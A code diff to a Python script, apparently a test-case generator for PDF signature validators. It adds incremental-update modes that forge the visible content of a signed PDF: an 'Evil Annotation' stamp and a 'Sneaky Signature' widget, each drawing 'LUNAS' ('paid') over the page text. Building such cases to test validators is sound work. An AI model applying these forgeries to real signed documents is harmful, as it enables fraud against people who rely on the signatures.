@@ -22,6 +22,11 @@ Modes (the last signature is the one attacked):
                   (hide-and-replace)
   replace-font    incremental update redefining the font page 1 uses (replace)
   add-page        incremental update adding a second page (page count change)
+  annot-text      incremental update adding a Text annotation (sticky note) to page 1
+  annot-stamp     incremental update adding a Stamp annotation whose appearance covers the
+                  page's text (Evil Annotation)
+  sneaky-sig      incremental update adding a new, unsigned signature field whose widget has
+                  a visible appearance over the page's text (Sneaky Signature)
 """
 import re, sys, zlib
 
@@ -138,6 +143,33 @@ elif mode == 'add-page':
     pages = re.sub(rb'/Count\s+\d+', b'/Count 2', pages)
     pages = re.sub(rb'/Kids\s*\[', b'/Kids [ %d 0 R ' % size, pages, count=1)
     append_update([(size, newpage), (size + 1, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream'), (pnum, pages)])
+elif mode in ('annot-text', 'annot-stamp', 'sneaky-sig'):
+    num, page = page1()
+    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
+    ap = b'1 1 1 rg 0 0 500 200 re f 1 0 0 rg BT /Helv 36 Tf 20 80 Td (LUNAS) Tj ET'
+    apobj = (size + 1, b'<< /Type /XObject /Subtype /Form /BBox [0 0 500 200] /Length %d >>\nstream\n' % len(ap) + ap + b'\nendstream')
+    if mode == 'annot-text':
+        objs = [(size, b'<< /Type /Annot /Subtype /Text /Rect [500 780 520 800] /Contents (Mohon diperiksa) /Open false >>')]
+    elif mode == 'annot-stamp':
+        objs = [(size, b'<< /Type /Annot /Subtype /Stamp /Rect [50 600 550 800] /F 4 /AP << /N %d 0 R >> >>' % (size + 1)), apobj]
+    else:
+        objs = [(size, b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Persetujuan2) /F 4 /Rect [50 600 550 800] /P %d 0 R /AP << /N %d 0 R >> >>' % (num, size + 1)), apobj]
+    # appended at the end of the arrays, as a real incremental update would
+    p = re.sub(rb'(/Annots\s*\[[^\]]*)\]', rb'\1 %d 0 R]' % size, page, count=1)
+    if p == page:
+        p = page[:-2] + b' /Annots [%d 0 R] >>' % size
+    objs.append((num, p))
+    if mode == 'sneaky-sig':
+        cm = list(re.finditer(rb'(?<![0-9])(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/Type\s*/Catalog\b.*?>>)\s*endobj', d, re.S))[-1]
+        cat = cm.group(2)
+        if re.search(rb'/AcroForm\s*<<', cat):
+            cat = re.sub(rb'(/AcroForm\s*<<[^>]*?/Fields\s*\[[^\]]*)\]', rb'\1 %d 0 R]' % size, cat, count=1)
+            objs.append((int(cm.group(1)), cat))
+        else:
+            an = int(re.search(rb'/AcroForm\s+(\d+)\s+0\s+R', cat).group(1))
+            af = list(re.finditer(rb'(?<![0-9])%d 0 obj\s*(<<.*?>>)\s*endobj' % an, d, re.S))[-1].group(1)
+            objs.append((an, re.sub(rb'(/Fields\s*\[[^\]]*)\]', rb'\1 %d 0 R]' % size, af, count=1)))
+    append_update(objs)
 else:
     sys.exit('unknown mode ' + mode)
 open(dst, 'wb').write(d)
